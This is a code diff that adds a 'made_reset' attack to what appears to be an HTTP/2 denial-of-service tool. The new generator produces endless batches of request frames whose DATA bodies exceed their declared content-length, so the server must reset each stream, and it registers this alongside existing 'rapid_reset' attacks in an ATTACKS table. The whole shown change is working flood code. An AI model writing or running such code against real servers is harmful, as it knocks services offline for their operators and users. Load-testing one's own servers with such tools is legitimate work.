@@ -51,8 +51,19 @@ def resets(whole=False):
         yield b"".join(reset(stream, whole) for stream in range(first, first + 2 * PIECE, 2))
 
 
+def made_resets():
+    """Endless pieces of requests that the server has to reset: their bodies are longer than they say."""
+    head = frames.field(b"content-length", b"1")
+    for first in range(1, 2**31 - 2 * PIECE, 2 * PIECE):
+        yield b"".join(
+            frames.open_request(stream, INFER, more=head) + frames.frame(frames.DATA, 0, stream, b"xx")
+            for stream in range(first, first + 2 * PIECE, 2)
+        )
+
+
 ATTACKS = {kind: lambda kind=kind: useless(kind) for kind in USELESS}
 ATTACKS |= {"rapid_reset": resets, "rapid_reset_of_whole_requests": lambda: resets(whole=True)}
+ATTACKS["made_reset"] = made_resets
 
 
 def send(connection, pieces):
